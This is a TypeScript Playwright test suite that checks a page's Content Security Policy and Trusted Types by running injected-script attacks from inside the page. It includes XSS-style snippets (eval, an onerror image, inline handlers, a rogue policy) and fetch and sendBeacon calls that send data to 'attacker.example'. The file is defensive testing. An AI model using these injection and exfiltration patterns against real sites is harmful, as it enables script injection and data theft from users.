import type { Page } from "playwright/test";
import { untilLive } from "#site/quiet-page.ts";
import { foreignRequests, isOwned, path } from "./attacker.ts";
import { expect, test } from "./policed-page.ts";

/** Opens the page and lets code run in it that got in somehow; a task of its own, as the page's are. */
async function runInside(page: Page, attack: () => void): Promise<void> {
  await page.goto(path);
  await untilLive(page, path);
  // What the test's own connection evaluates is exempt from the policy; a timer's callback isn't.
  // A refusal may be an exception: what counts is what was noted, and what happened.
  await page.evaluate(
    `new Promise((done) => setTimeout(() => { try { (${attack})() } catch {} done() }))`,
  );
}

const fromInside: Record<string, { attack: () => void; directive: RegExp }> = {
  "a text as code (eval)": {
    // biome-ignore lint/security/noGlobalEval: it is the attack.
    attack: () => eval("window.owned = true"),
    directive: /^(script-src|require-trusted-types-for)$/,
  },
  "a text as code (Function)": {
    attack: () => new Function("window.owned = true")(),
    directive: /^(script-src|require-trusted-types-for)$/,
  },
  "a text as code (a timer)": {
    attack: () => window.setTimeout("window.owned = true" as never, 0),
    directive: /^(script-src|require-trusted-types-for)$/,
  },
  "a script of its own": {
    attack: () => {
      const script = document.createElement("script");
      script.append(document.createTextNode("window.owned = true"));
      document.body.append(script);
    },
    directive: /^(script-src-elem|require-trusted-types-for)$/,
  },
  "markup with a handler": {
    attack: () => {
      document.body.innerHTML = '<img src="data:," onerror="window.owned = true">';
    },
    directive: /^require-trusted-types-for$/,
  },
  "a handler on an element": {
    attack: () => {
      document.body.setAttribute("onclick", "window.owned = true");
      document.body.click();
    },
    directive: /^(script-src-attr|require-trusted-types-for)$/,
  },
  "a policy of its own for markup": {
    attack: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => object };
      };
      trustedTypes.createPolicy("attacker", { createHTML: (text: string) => text });
      Object.assign(window, { owned: true });
    },
    directive: /^trusted-types$/,
  },
  "a call to somebody else": {
    attack: () => {
      fetch("http://attacker.example/take").then(() => Object.assign(window, { owned: true }));
    },
    directive: /^connect-src$/,
  },
  "a beacon to somebody else": {
    attack: () => navigator.sendBeacon("http://attacker.example/take", "words"),
    directive: /^connect-src$/,
  },
};

for (const [what, { attack, directive }] of Object.entries(fromInside)) {
  test(`code that got in can't run ${what}`, async ({ page, refusals, messages }) => {
    const requests = await foreignRequests(page);
    await runInside(page, attack);
    await expect
      .poll(() => refusals.map((refusal) => refusal.directive).join())
      .toMatch(new RegExp(directive.source.replace(/^\^|\$$/g, "")));
    expect(await isOwned(page)).toBe(false);
    expect(requests).toEqual([]);
    messages.length = 0;
  });
}
